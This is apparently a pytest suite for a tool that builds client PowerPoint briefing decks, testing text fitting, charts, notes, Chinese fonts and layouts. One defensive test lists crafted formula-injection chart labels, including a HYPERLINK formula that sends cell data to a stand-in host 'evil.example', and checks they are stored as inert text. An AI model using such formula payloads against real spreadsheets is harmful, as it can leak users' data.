"""The deck a client edits: fitted text, native charts, notes, Chinese fonts, real viewers.

Whether text fits its box is measured on LibreOffice's rendering (test_deck_fill.py), not with
the fitter's own line_count and constants, which could only agree with themselves."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from pptx import Presentation
from pptx.opc.constants import RELATIONSHIP_TYPE as RT
from pptx.oxml.ns import qn

from briefing.assemble import assemble
from briefing.errors import RenderError, TemplateError
from briefing.project.load import load_project
from briefing.project.validate import validate
from briefing.render.breaks import is_cjk
from briefing.render.deck import CONTENT_ROLES, check_master
from briefing.render.deck_fit import Fitter
from briefing.render.deck_model import Card, Column, DeckPlan, SlidePlan, TablePlan
from briefing.render.deck_pages import paginate
from briefing.themes.theme import resolve

from .conftest import REPO, SAMPLE_CLIENTS, TODAY

CLIENT = "maison-aurele"
MASTER = REPO / "templates/default/master.pptx"


@pytest.fixture(scope="module")
def deck_path(built: Path) -> Path:
    return built / f"out/{CLIENT}/{CLIENT}-deck.pptx"


@pytest.fixture(scope="module")
def fitter() -> Fitter:
    presentation = Presentation(str(MASTER))
    theme = resolve("default", REPO)
    layouts = {lay.name: lay for lay in presentation.slide_layouts}
    return Fitter(layouts, theme, presentation.slide_master)


def test_charts_are_native_and_match_the_data(built: Path, deck_path: Path) -> None:
    kb, _ = validate(load_project(built))
    fits = {r.id: r.fit.score for r in assemble(kb, CLIENT, today=TODAY).fits}  # segment-aware
    charts = [
        shape
        for slide in Presentation(str(deck_path)).slides
        for shape in slide.shapes
        if shape.has_chart
    ]
    assert len(charts) >= 2
    fit = charts[0]
    assert fit._element.nvGraphicFramePr.cNvPr.get("descr", "").startswith("Bar chart")
    plot = fit.chart.plots[0]
    labels = list(plot.categories)
    scores = {}  # one series per look (recommended, not in the plan): a bar is in one of them
    for series in plot.series:
        for label, value in zip(labels, series.values, strict=True):
            if value is not None:
                scores[label] = value
    assert {s.name for s in plot.series} == {"recommended in this plan", "not in the plan"}
    briefing = assemble(kb, CLIENT, today=TODAY)
    chosen = {p.id for p in briefing.plan.group("recommended")}
    shown = 0
    for pid, platform in kb.platforms.items():  # the shortlist: the plan and scores of 3 up
        label = f"{platform.name} {platform.name_zh}"
        if platform.status == "active" and (pid in chosen or fits[pid] >= 3):
            assert scores[label] == fits[pid]
            shown += 1
        else:
            assert label not in scores
    assert shown == len(scores) >= len(chosen)


@pytest.mark.parametrize("client", SAMPLE_CLIENTS)
def test_notes_on_every_content_slide(all_built: Path, client: str) -> None:
    slides = list(Presentation(str(all_built / f"out/{client}/{client}-deck.pptx")).slides)
    for slide in slides[1:-1]:
        assert slide.has_notes_slide and slide.notes_slide.notes_text_frame.text.strip(), (
            slide.shapes.title.text
        )


@pytest.mark.parametrize("client", SAMPLE_CLIENTS)
def test_chinese_runs_carry_the_east_asian_font(all_built: Path, client: str) -> None:
    kb, _ = validate(load_project(all_built))
    cjk = resolve(kb.clients[client].theme, REPO).deck_cjk
    seen = 0
    for slide in Presentation(str(all_built / f"out/{client}/{client}-deck.pptx")).slides:
        for run in slide.element.iter(qn("a:r")):
            text = run.findtext(qn("a:t")) or ""
            if any(is_cjk(ch) for ch in text):
                seen += 1
                assert run.find(qn("a:rPr")).find(qn("a:ea")).get("typeface") == cjk, text
    assert seen >= 5


def test_master_theme_carries_brand_fonts_and_colours(deck_path: Path) -> None:
    deck = Presentation(str(deck_path))
    theme_xml = deck.slide_master.part.part_related_by(RT.THEME).blob
    assert b'<a:ea typeface="Microsoft YaHei"/>' in theme_xml  # deck_fonts.cjk
    assert b'<a:accent1><a:srgbClr val="B3261E"/></a:accent1>' in theme_xml


def test_a_long_bullet_list_continues_on_new_slides(fitter: Fitter) -> None:
    bullets = [
        f"Point {i}: a reasonably long line of advice for the account team" for i in range(60)
    ]
    slides = paginate(
        fitter,
        DeckPlan(
            slides=[
                SlidePlan(
                    role="content", layout="Title and Content", title="Tactics", bullets=bullets
                )
            ]
        ),
    )
    assert len(slides) >= 3
    count = len(slides)
    expected = [f"Tactics\u00a0({i}\u00a0of\u00a0{count})" for i in range(1, count + 1)]
    assert [s.title for s in slides] == expected
    assert [b for s in slides for b in s.bullets] == bullets


def test_a_title_that_cannot_fit_fails_or_is_shortened(fitter: Fitter) -> None:
    long = "A title far too long for one line of a slide, " * 6
    plan = DeckPlan(
        slides=[SlidePlan(role="content", layout="Title and Content", title=long.strip())]
    )
    with pytest.raises(RenderError, match=r"slide 1 \(Title and Content\), field 'title'"):
        paginate(fitter, plan)
    plan = DeckPlan(
        slides=[
            SlidePlan(
                role="content", layout="Title and Content", title=long.strip(), shorten_title=True
            )
        ]
    )
    [slide] = paginate(fitter, plan)
    assert slide.title.endswith("…") and len(slide.title) < len(long)


def test_master_lacking_a_layout_is_named() -> None:
    plan = DeckPlan(slides=[SlidePlan(role="content", layout="Big Number", title="x")])
    with pytest.raises(
        TemplateError,
        match=r"layout 'Big Number' is not in master.pptx "
        r"\(it has: Title Slide, Title and Content",
    ):
        check_master(Presentation(str(MASTER)), plan, "master.pptx")


def test_a_slide_exists_for_each_recommended_platform(built: Path, deck_path: Path) -> None:
    kb, _ = validate(load_project(built))
    briefing = assemble(kb, CLIENT, today=TODAY)
    slides = [s for s in Presentation(str(deck_path)).slides if s.shapes.title is not None]
    platform_slides = [s for s in slides if s._element.cSld.get("name") == "two-content"]
    for r in briefing.recommended:
        pattern = re.compile(
            re.escape(r.platform.name) + r"(:| (builds|wins|converts|brings|plays))"
        )
        [slide] = [s for s in platform_slides if pattern.match(s.shapes.title.text)]
        cards = [shape for shape in slide.shapes if shape.name.startswith("Card")]
        assert 2 <= len(cards) <= 3, r.platform.name  # the evidence cards on the right
        # the first card: the KPI the platform moves, or (moving none) its fit score
        first = cards[0].text_frame.text
        assert "the KPI it moves" in first or first.startswith(f"{r.fit.score}/5"), first
        assert '"' not in " ".join(c.text_frame.text for c in cards)  # no YAML quotes leak
        # a slide that shows a published figure names its source under the body
        sources = [shape.text_frame.text for shape in slide.shapes if shape.name == "Source"]
        if r.platform.current_metrics:
            assert len(sources) == 1 and sources[0].startswith("Source"), sources
        assert all(
            card.left > slide.placeholders[1].left + slide.placeholders[1].width for card in cards
        )


def titles_by_role(deck: Path) -> list[tuple[str, str]]:
    return [
        (slide._element.cSld.get("name"), slide.shapes.title.text)
        for slide in Presentation(str(deck)).slides
        if slide.shapes.title is not None
    ]


@pytest.mark.parametrize("client", SAMPLE_CLIENTS)
def test_content_titles_are_sentences_unique_in_their_deck(all_built: Path, client: str) -> None:
    """A reader of the titles alone gets the argument: each content title is a sentence of at
    least five words, none repeated (continuations say which part they are)."""
    titles = [
        t
        for role, t in titles_by_role(all_built / f"out/{client}/{client}-deck.pptx")
        if role in CONTENT_ROLES
    ]
    assert len(titles) >= 12
    short = [t for t in titles if len(t.split()) < 5]
    assert not short, short
    assert len(set(titles)) == len(titles), [t for t in titles if titles.count(t) > 1]
    assert not [t for t in titles if t.endswith("…")]


def test_titles_are_specific_to_the_client(all_built: Path) -> None:
    """The same pattern fills differently for different clients: two briefings in different
    industries share no content title but the appendix's (its reference tables: every risk,
    every figure)."""
    first, second = (
        before_appendix(titles_by_role(all_built / f"out/{c}/{c}-deck.pptx"))
        for c in ("nordlys-travel", "northwind-robotics")
    )
    assert len(first) >= 8 and len(second) >= 8
    shared = first & second
    assert not shared, shared


def before_appendix(titles: list[tuple[str, str]]) -> set[str]:
    """The content titles up to the appendix's divider (the only section slide)."""
    roles = [role for role, _ in titles]
    end = roles.index("section") if "section" in roles else len(titles)
    return {t for role, t in titles[:end] if role in CONTENT_ROLES}


@pytest.mark.parametrize("client", SAMPLE_CLIENTS)
def test_the_storyline_uses_layouts_by_role(all_built: Path, client: str) -> None:
    """Every role maps through theme.yaml `layouts:`, and at least five layouts are used."""
    from briefing.build.pipeline import prepare

    from .conftest import settings_for

    theme = prepare(settings_for(all_built), client).theme
    mapping = theme.tokens.layouts
    deck = Presentation(str(all_built / f"out/{client}/{client}-deck.pptx"))
    used = set()
    for slide in deck.slides:
        role = slide._element.cSld.get("name")
        assert slide.slide_layout.name == mapping[role], role
        used.add(slide.slide_layout.name)
    assert len(used) >= 5, used
    roles = [slide._element.cSld.get("name") for slide in deck.slides]
    assert roles[0] == "title" and roles[1] == "two-content" and roles[-1] == "closing"
    assert "title-only" in roles and "section" in roles


def test_titles_use_the_theme_heading_font(deck_path: Path) -> None:
    deck = Presentation(str(deck_path))
    heading = resolve("default", REPO).tokens.fonts.heading
    for slide in deck.slides:
        if slide.shapes.title is None:
            continue
        for run in slide.shapes.title.element.iter(qn("a:r")):
            assert run.find(qn("a:rPr")).find(qn("a:latin")).get("typeface") == heading


@pytest.mark.parametrize("client", SAMPLE_CLIENTS)
def test_chart_labels_stay_on_one_line(all_built: Path, client: str) -> None:
    deck = Presentation(str(all_built / f"out/{client}/{client}-deck.pptx"))
    labels = [
        element
        for slide in deck.slides
        for shape in slide.shapes
        if shape.has_chart
        for element in shape.chart._chartSpace.iter(qn("c:dLbl"))
    ]
    assert labels
    for label in labels:
        assert label.find(".//" + qn("a:bodyPr")).get("wrap") == "none"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.xdist_group("libreoffice")
@pytest.mark.parametrize("client", SAMPLE_CLIENTS)
def test_libreoffice_converts_the_deck(
    all_built: Path, client: str, sample_decks_as_pdf: dict[str, Path]
) -> None:
    """Every sample deck converts (one soffice run converts them all: its start-up is the
    cost), a page per slide."""
    from pypdf import PdfReader

    deck_path = all_built / f"out/{client}/{client}-deck.pptx"
    converted = sample_decks_as_pdf[client]
    assert converted.is_file()
    assert len(PdfReader(converted).pages) == len(Presentation(str(deck_path)).slides)


@pytest.mark.parametrize("client", SAMPLE_CLIENTS)
def test_every_sample_deck_is_schema_valid(all_built: Path, client: str) -> None:
    """An independent OOXML validator (openxml-audit, pure Python) finds nothing to repair:
    upper-case GUIDs in slide-number fields, unsigned chart axis ids."""
    deck = all_built / f"out/{client}/{client}-deck.pptx"
    result = subprocess.run(
        [str(Path(sys.executable).parent / "openxml-audit"), "-f", "office2016", str(deck)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert "Errors: 0" in result.stdout, result.stdout[-2000:]


@pytest.mark.parametrize("client", SAMPLE_CLIENTS)
def test_tables_use_the_theme_style_the_deck_defines(all_built: Path, client: str) -> None:
    import re
    import zipfile

    deck = all_built / f"out/{client}/{client}-deck.pptx"
    with zipfile.ZipFile(deck) as archive:
        styles = archive.read("ppt/tableStyles.xml").decode()
        slides = [archive.read(n).decode() for n in archive.namelist() if "slides/slide" in n]
    defined = set(re.findall(r'styleId="(\{[0-9A-F-]+\})"', styles))
    used = {u for xml in slides for u in re.findall(r"<a:tableStyleId>([^<]+)<", xml)}
    assert used and used <= defined
    primary = resolve_theme_primary(all_built, client)
    assert '<a:firstRow><a:tcTxStyle b="on">' in styles and primary in styles


def resolve_theme_primary(root: Path, client: str) -> str:
    from briefing.build.pipeline import prepare

    from .conftest import settings_for

    tokens = prepare(settings_for(root), client).theme.tokens
    return tokens.colours.primary.lstrip("#").upper()


def test_a_title_slightly_too_long_shrinks_before_it_fails(fitter: Fitter) -> None:
    """Down to 75% of the theme's title size (a client's master may have a smaller box)."""
    text = "A title far too long for one line of a slide, " * 3
    plan = DeckPlan(slides=[SlidePlan(role="content", layout="Title and Content", title=text)])
    [slide] = paginate(fitter, plan)
    assert slide.title == text and slide.title_size is not None
    assert fitter.sizes.title * 0.75 <= slide.title_size < fitter.sizes.title


def test_an_invalid_slide_plan_names_the_template_and_the_slide(project: Path) -> None:
    """Never the rendered plan (a file nobody can open): the template, the slide and its title."""
    from briefing.render.deck import plan_deck

    folder = project / "templates/broken"
    folder.mkdir()
    (folder / "theme.yaml").write_text("name: Broken\nextends: default\n", encoding="utf-8")
    (folder / "deck.yaml.j2").write_text(
        "slides:\n  - role: content\n    title: [The first 90 days, Day by day]\n"
        "    columns:\n      - heading: By day 60\n        items:\n",
        encoding="utf-8",
    )
    with pytest.raises(TemplateError) as caught:
        plan_deck(None, resolve("broken", project), {})  # type: ignore[arg-type]
    message = str(caught.value)
    assert message.startswith(
        "templates/broken/deck.yaml.j2: slide 1 ('The first 90 days'), columns[0].items: "
        "no value given"
    ), message
    assert "rendered" not in message


def test_a_misspelt_slide_role_is_a_plan_error(project: Path) -> None:
    """A role is a SlideRole when the plan is validated, not a string found wanting later."""
    from briefing.render.deck import plan_deck

    folder = project / "templates/misspelt"
    folder.mkdir()
    (folder / "theme.yaml").write_text("name: Misspelt\nextends: default\n", encoding="utf-8")
    (folder / "deck.yaml.j2").write_text(
        "slides:\n  - role: contnet\n    title: [Why China, Now]\n", encoding="utf-8"
    )
    with pytest.raises(TemplateError) as caught:
        plan_deck(None, resolve("misspelt", project), {})  # type: ignore[arg-type]
    message = str(caught.value)
    assert message.startswith("templates/misspelt/deck.yaml.j2:"), message
    assert "slide 1 ('Why China'), role:" in message and "'content'" in message, message


FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    '=HYPERLINK("http://evil.example/?"&A1,"Xiaohongshu") 小红书',
    "+1 users",
    "-2+3",
    "@SUM(1+1)",
    "http://evil.example/track",
]


def test_chart_labels_are_text_in_the_embedded_workbook_never_formulas(
    tmp_path: Path, fitter: Fitter
) -> None:
    """D-02: "Edit Data" in PowerPoint must not find a live formula or link made of a label."""
    from briefing.render import pptx_chart
    from briefing.render.charts import Bar, ChartSpec

    spec = ChartSpec(
        id="attack",
        title="Labels",
        unit="=1+1",
        alt="Bar chart of crafted labels",
        bars=[Bar(label=label, value=i + 1) for i, label in enumerate(FORMULAS)],
    )
    deck = Presentation(str(MASTER))
    slide = deck.slides.add_slide(deck.slide_layouts[0])
    box = (914400, 914400, 6 * 914400, 4 * 914400)
    pptx_chart.add_chart(slide, box, spec, fitter.fonts, 12, "#1F4E79")
    deck.save(str(tmp_path / "deck.pptx"))

    with zipfile.ZipFile(tmp_path / "deck.pptx") as package:
        (workbook_name,) = [n for n in package.namelist() if n.startswith("ppt/embeddings/")]
        chart_xml = package.read(next(n for n in package.namelist() if "charts/chart" in n))
        workbook = zipfile.ZipFile(io.BytesIO(package.read(workbook_name)))
    sheets = [workbook.read(n) for n in workbook.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    assert not any(n.startswith("xl/worksheets/_rels/") for n in workbook.namelist())  # no links
    strings = {
        "".join(si.itertext())
        for si in etree.fromstring(workbook.read("xl/sharedStrings.xml")).iter("{*}si")
    }
    assert {*FORMULAS, "=1+1"} <= strings
    # PowerPoint shows the chart's own cache: exactly the labels, in the drawn order
    cached = [v.text for v in etree.fromstring(chart_xml).iterfind(".//{*}cat//{*}v")]
    assert cached == list(reversed(FORMULAS))


def test_competitors_still_to_audit_get_an_audit_plan_not_empty_cells() -> None:
    """No competitor audited: what to audit, where and by when, beside two figure cards;
    the table of empty cells filled 0.24-0.31 of its slide (qa-briefs 1:0, 1:10)."""
    from briefing.render.context import template_context
    from briefing.render.deck import plan_deck
    from tests.conftest import SAMPLE

    kb, _ = validate(load_project(SAMPLE))
    client = kb.clients[CLIENT]
    unaudited = [c.model_copy(update={"presence": []}) for c in client.competitors]
    kb.clients[CLIENT] = client.model_copy(update={"competitors": unaudited})
    briefing = assemble(kb, CLIENT, today=TODAY)
    theme = resolve("default", REPO)
    plan = plan_deck(briefing, theme, template_context(briefing, theme))
    slide = next(s for s in plan.slides if "still to audit" in s.titles[0])
    assert slide.role == "two-content" and slide.table is None and len(slide.cards) == 2
    first = briefing.plan.group("recommended")[0].platform.name
    assert all(c.name in " ".join(slide.bullets) for c in unaudited)
    assert first in slide.bullets[0]


def test_an_empty_table_cell_has_no_run_and_the_row_size() -> None:
    """LibreOffice sets an empty run's line taller than the text's: a funnel table of empty
    stages grew out of its frame (qa-briefs 1:6, 1:8)."""
    from pptx.util import Pt

    from briefing.render.fit import FacePair
    from briefing.render.pptx_parts import add_table

    deck = Presentation(str(MASTER))
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    fonts = FacePair("DejaVu Sans", "Noto Sans CJK SC")
    box = (Pt(48), Pt(126), Pt(864), Pt(300))
    add_table(slide, box, ["Platform", "Loyalty"], [["Weibo", ""]], [432, 432], [26, 26], fonts, 13)
    table = next(s for s in slide.shapes if s.has_table).table
    empty = table.cell(1, 1).text_frame.paragraphs[0]._p
    assert empty.r_lst == [] and empty.endParaRPr.get("sz") == "1300"
    assert table.cell(1, 0).text_frame.paragraphs[0].runs[0].text == "Weibo"


def test_a_platform_a_goal_brought_in_without_tactics_leads_by_its_role() -> None:
    """A carmaker's goal on parts sales in JD and Tmall stores brings in a platform with no
    tactic for its segment (qa-briefs 27:7): the funnel says it leads, not '0 tactics'."""
    import datetime as dt

    from briefing.project.model import Goal, Target
    from briefing.render.context import template_context
    from briefing.render.deck import plan_deck
    from tests.conftest import SAMPLE

    kb, _ = validate(load_project(SAMPLE))
    client = kb.clients["voltera-motors"]
    goal = Goal(
        goal="Parts sales", kpi="marketplace-sales", target=Target(value=1e6, unit="RMB"),
        by=dt.date(2027, 11, 30),
    )  # fmt: skip
    kb.clients["voltera-motors"] = client.model_copy(update={"goals": [goal]})
    briefing = assemble(kb, "voltera-motors", today=TODAY)
    assert briefing.plan.goals[0].platforms and not briefing.plan.goals[0].tactics
    theme = resolve("default", REPO)
    plan = plan_deck(briefing, theme, template_context(briefing, theme))
    cells = [c for s in plan.slides if s.table for row in s.table.rows for c in row]
    assert "● Leads" in cells and not [c for c in cells if "0 tactics" in c]


def test_a_plan_with_no_step_in_its_first_90_days_shows_its_first_dated_steps() -> None:
    """Every tactic of the plan waits for a calendar moment (qa-briefs 43:1, 43:8: only Tmall,
    its one tactic tied to 618): the answer's cards are the first dated steps, and a plan
    with no step at all has no cards rather than a build error ('cards: no value given')."""
    from briefing.render.context import template_context
    from briefing.render.deck import plan_deck
    from tests.conftest import SAMPLE

    kb, _ = validate(load_project(SAMPLE))
    briefing = assemble(kb, CLIENT, today=TODAY)
    theme = resolve("default", REPO)
    tactic = next(t for tactics in briefing.plan.tactics.values() for t in tactics)
    tied = next(s for s in briefing.plan.steps if s.date and not s.tactic)
    tied = tied.model_copy(update={"platform": tactic.platform, "tactic": tactic.id})
    untied = [s for s in briefing.plan.steps if not s.tactic]  # reviews, moments, deadlines
    for steps, cards in (([tied, *untied], 1), (untied, 0)):
        plan = briefing.plan.model_copy(
            update={"roadmap": {30: [], 60: [], 90: []}, "steps": steps}
        )
        late = briefing.model_copy(update={"plan": plan})
        answer = plan_deck(late, theme, template_context(late, theme)).slides[1]
        assert len(answer.cards) == cards, answer.cards
        roadmap = next(s for s in plan_deck(late, theme, template_context(late, theme)).slides
                       if s.columns)  # fmt: skip
        if cards:
            assert answer.cards[0].big == f"By {tied.date.day} {tied.date:%B %Y}"
            assert answer.cards[0].label == (tactic.short or tactic.text)
            due = f"the first is due on {tied.date.day} {tied.date:%B %Y}"
            assert roadmap.titles == [f"No step falls in the first 90 days; {due}"]
        else:
            assert roadmap.titles == ["No step falls in the first 90 days of this plan"]


def test_a_funnel_no_platform_leads_is_titled_by_its_fallback() -> None:
    """qa-briefs 44:10: the one recommended platform had no tactic and no role, so no stage
    had a leader, and the title ' for <client>' failed the build ('at least 1 character')."""
    from briefing.render.context import template_context
    from briefing.render.deck import plan_deck
    from tests.conftest import SAMPLE

    kb, _ = validate(load_project(SAMPLE))
    briefing = assemble(kb, CLIENT, today=TODAY)
    theme = resolve("default", REPO)
    context = template_context(briefing, theme) | {"leads": {}, "lead_stage": {}}
    slide = next(s for s in plan_deck(briefing, theme, context).slides if s.table
                 and s.table.columns[1:3] == ["Awareness", "Consideration"])  # fmt: skip
    assert slide.titles[0].startswith("Each recommended platform has its own job"), slide.titles


def test_one_audited_competitor_is_active() -> None:
    """'Where Vasel Vasel are active' (qa-briefs 1:30): one competitor takes the singular."""
    from briefing.render.context import template_context
    from briefing.render.deck import plan_deck
    from tests.conftest import SAMPLE

    kb, _ = validate(load_project(SAMPLE))
    client = kb.clients["voltera-motors"]
    one = next(c for c in client.competitors if c.presence)
    kb.clients["voltera-motors"] = client.model_copy(update={"competitors": [one]})
    briefing = assemble(kb, "voltera-motors", today=TODAY)
    theme = resolve("default", REPO)
    plan = plan_deck(briefing, theme, template_context(briefing, theme))
    titles = [t for s in plan.slides for t in s.titles]
    assert f"Where {one.name} is active, and what it does there" in titles


def test_the_census_says_what_each_verdict_means_once() -> None:
    """Every row's reason began with its verdict's definition ('Considered: we would add it with
    more budget or another goal.' eight times over; the Chinese review of 2026-12-07): the
    definitions stand once, under the table, and each row gives its own reason."""
    from briefing.render.context import template_context
    from briefing.render.deck import plan_deck
    from tests.conftest import SAMPLE

    kb, _ = validate(load_project(SAMPLE))
    briefing = assemble(kb, CLIENT, today=TODAY)
    theme = resolve("default", REPO)
    plan = plan_deck(briefing, theme, template_context(briefing, theme))
    census = next(s for s in plan.slides if s.table and s.table.columns[-1] == "Why")
    reasons = [row[-1] for row in census.table.rows]
    assert not any(r.startswith(("Considered:", "Watched:", "Avoided:")) for r in reasons)
    shown = {row[1].split(",")[0] for row in census.table.rows}
    assert census.source and all(f"{verdict}:" in census.source for verdict in shown)


def test_a_top_scorer_on_watch_is_named_as_such_with_its_reason_once() -> None:
    """Nordlys: Trip.com scores 5/5 but is watched; slide 5 named it among the plan's top
    scorers ('抖音、小红书和携程得分最高'), and the census row gave no reason beyond the verdict
    (the Chinese review of 2026-12-07)."""
    from briefing.render.context import template_context
    from briefing.render.deck import plan_deck
    from tests.conftest import SAMPLE

    kb, _ = validate(load_project(SAMPLE))
    briefing = assemble(kb, "nordlys-travel", today=TODAY)
    theme = resolve("default", REPO)
    plan = plan_deck(briefing, theme, template_context(briefing, theme))
    trip = next(p for p in briefing.plan.placed if p.id == "trip-com")
    assert trip.group == "watched" and trip.fit.score == 5
    where = next(s for s in plan.slides if s.chart == "fit-shortlist")
    assert where.titles[0].endswith("; Trip.com (Ctrip) scores as high but is on watch for a risk")
    rows = [
        r for s in plan.slides if s.table and s.table.columns[-1] == "Why" for r in s.table.rows
    ]
    reason = next(r[-1] for r in rows if r[0].startswith("Trip.com"))
    assert reason.startswith(trip.fit.rationale) and reason.count("Watch point:") == 1


def test_one_goal_and_one_competitor_are_cards_not_one_row_tables(tmp_path: Path) -> None:
    """`make qa-briefs` 1:30 and 1:35 (deck-layout, fill 0.31): a brief with one goal, or one
    competitor seen on one platform, got a table of one row on an otherwise empty slide."""
    import yaml

    from briefing.build.pipeline import build

    from .conftest import copy_project, settings_for

    root = copy_project(tmp_path / "project", clients=["voltera-motors"])
    brief = root / "data/clients/voltera-motors.yaml"
    data = yaml.safe_load(brief.read_text(encoding="utf-8"))
    data["goals"], data["competitors"] = data["goals"][:1], data["competitors"][:1]
    brief.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    (root / "data/clients/voltera-motors.zh-CN.yaml").unlink()  # it lists every goal
    build(settings_for(root), "voltera-motors")

    deck = Presentation(str(root / "out/voltera-motors/voltera-motors-deck.pptx"))
    tables = [
        (slide.shapes.title.text, len(shape.table.rows))
        for slide in deck.slides
        for shape in slide.shapes
        if shape.has_table
    ]
    assert all(rows > 2 for _, rows in tables), tables  # a header and at least two rows
    titles = [slide.shapes.title.text for slide in deck.slides if slide.shapes.title]
    assert any("One goal for Voltera" in t for t in titles), titles
    assert any("Where Tesla Model Y is active" in t for t in titles), titles


@pytest.mark.parametrize("lang", ["en", "zh-CN"])
def test_one_risk_is_cards_not_a_one_row_table(tmp_path: Path, lang: str) -> None:
    """`make qa-briefs` 27:6 and 27:1 (deck-layout, fill 0.34 and 0.24): a plan with one risk
    got a table of one row; it is the risk and its mitigation beside two cards."""
    import io

    from briefing.build.pipeline import prepare
    from briefing.render.deck import render_deck
    from briefing.themes import i18n

    from .conftest import copy_project, settings_for

    root = copy_project(tmp_path / "project", clients=["nordlys-travel"])
    prepared = prepare(settings_for(root, lang=lang), "nordlys-travel")
    plan = prepared.briefing.plan
    one = prepared.briefing.model_copy(
        update={"plan": plan.model_copy(update={"risks": plan.risks[:1]})}
    )
    with i18n.language(prepared.catalog):
        deck = Presentation(io.BytesIO(render_deck(one, prepared.theme).data))
    heads = ("One risk to manage",) if lang == "en" else ("一项风险",)
    [slide] = [s for s in deck.slides if s.shapes.title and
               any(h in s.shapes.title.text.replace("\v", "") for h in heads)]  # fmt: skip
    assert not any(shape.has_table for shape in slide.shapes)
    cards = [shape for shape in slide.shapes if shape.name.startswith("Card")]
    assert len(cards) == 2, [shape.name for shape in slide.shapes]


def test_one_figure_is_a_card_not_a_one_row_table(tmp_path: Path) -> None:
    """`make qa-briefs` 1:16 (deck-layout, fill 0.28): a brief whose plan rests on one
    figure got a sources table of one row; it is a card beside its source."""
    import io

    from briefing.build.pipeline import prepare
    from briefing.render.deck import render_deck
    from briefing.themes import i18n

    from .conftest import copy_project, settings_for

    root = copy_project(tmp_path / "project", clients=["nordlys-travel"])
    prepared = prepare(settings_for(root), "nordlys-travel")
    one = prepared.briefing.model_copy(update={"sources": prepared.briefing.sources[:1]})
    with i18n.language(prepared.catalog):
        deck = Presentation(io.BytesIO(render_deck(one, prepared.theme).data))
    [slide] = [s for s in deck.slides if s.shapes.title and
               s.shapes.title.text.replace("\v", " ").startswith("The one figure")]  # fmt: skip
    assert not any(shape.has_table for shape in slide.shapes)
    assert [s.name for s in slide.shapes if s.name.startswith("Card")] == ["Card 1"]


def _drawn_lines(paragraph: Any) -> list[str]:
    """A paragraph's text as the viewer draws its lines: runs, split at its <a:br/>."""
    lines = [""]
    for child in paragraph._p:
        if child.tag == qn("a:br"):
            lines.append("")
        elif child.tag == qn("a:r"):
            lines[-1] += child.find(qn("a:t")).text or ""
    return lines


def test_chinese_titles_bullets_cards_and_columns_break_between_words() -> None:
    """LibreOffice and PowerPoint break Chinese between any two characters (「代理|机构」,
    「2028年3月31|日」 in titles, bullets, cards and columns): the deck draws each text in the
    lines the fitter measured, with breaks of its own, and none inside a kept word."""
    from briefing.render import deck
    from briefing.render.fit import text_width, wrap
    from briefing.themes import i18n

    theme = resolve("default", REPO)
    with i18n.language(i18n.load_catalog(theme.dirs, "zh-CN", REPO)):
        presentation = Presentation(str(MASTER))
        layouts = {lay.name: lay for lay in presentation.slide_layouts}
        zh = Fitter(layouts, theme, presentation.slide_master)
        body, inner = zh.sizes.body, zh.inner_width(zh.area("Title Only", 1))

        def split_by_characters(width: float, size: float) -> str:
            """A text whose first line, broken between any two characters, ends '我|方' (the
            fixed word for the agency)."""
            em = text_width("中", zh.fonts, size)  # every ideograph is one em wide
            return "甲" * (int(width // em) - 1) + "我方负责到底"

        title = split_by_characters(zh.title_width("Title and Content"), zh.sizes.title)
        bullet = split_by_characters(zh.body_width("Title and Content", 1, True), body)
        label = split_by_characters(inner, zh.midway)
        item = split_by_characters(inner, body)
        plans = [
            SlidePlan(role="content", layout="Title and Content", title=title, bullets=[bullet]),
            SlidePlan(role="content", layout="Title Only", title="卡片", cards=[
                Card(big="5亿", label=label)]),
            SlidePlan(role="content", layout="Title Only", title="路线图", columns=[
                Column(heading="第30天前", items=[item])]),
        ]  # fmt: skip
        fitted = paginate(zh, DeckPlan(slides=plans))
        assert fitted[0].title_size == zh.sizes.title and fitted[0].size == fitted[2].size == body
        for number, plan in enumerate(fitted, 1):
            deck._add_slide(presentation, layouts[plan.layout], plan, zh, None, number)
        expected = [  # the lines the fitter measured each text in
            wrap(title, zh.fonts, zh.sizes.title, zh.title_width("Title and Content")),
            wrap(bullet, zh.fonts, body, zh.body_width("Title and Content", 1, True)),
            wrap(label, zh.fonts, zh.midway, inner),
            wrap(item, zh.fonts, body, inner),
        ]

    def drawn(slide: Any, name: str) -> list[list[str]]:
        shape = next(s for s in slide.shapes if s.name.startswith(name))
        return [_drawn_lines(p) for p in shape.text_frame.paragraphs]

    first, cards, columns = presentation.slides
    drawn_lines = [
        drawn(first, "Title")[0],
        drawn(first, "Content")[0],
        drawn(cards, "Card 1")[1],
        drawn(columns, "Column 1 items")[0],
    ]
    for lines, measured in zip(drawn_lines, expected, strict=True):
        assert lines == measured and len(lines) >= 2, lines
        assert any("我方" in line for line in lines), lines  # never '我|方'


def test_a_word_wider_than_its_cell_shrinks_the_table_until_it_fits(fitter: Fitter) -> None:
    """'Novembe|r 2027' in the goals table's narrow 'By' column (Hartley & Finch): the table
    takes the largest size at which every word fits its cell's line, not only its height."""
    from briefing.render.deck_pages import column_widths
    from briefing.render.fit import widest_word
    from briefing.render.pptx_parts import CELL_X

    body, table_size = fitter.sizes.body, fitter.sizes.table
    width = fitter.area("Title Only", 1).width
    word = widest_word("November", fitter.fonts, (body + table_size) / 2)  # fits midway
    narrow = word / fitter.across + 2 * CELL_X  # the column whose line holds it then
    table = TablePlan(
        columns=["Goal", "By"],
        widths=[width - narrow, narrow],
        rows=[["Reach first sales of RMB 5 million", "30 November 2027"]],
    )
    plan = SlidePlan(role="content", layout="Title Only", title="Goals", table=table)
    [slide] = paginate(fitter, DeckPlan(slides=[plan]))
    cell = fitter.cell_width(column_widths(table, width)[1])
    assert slide.size is not None and table_size <= slide.size < body
    assert widest_word("November", fitter.fonts, slide.size) <= cell
    assert widest_word("November", fitter.fonts, slide.size + 1) > cell  # the largest such
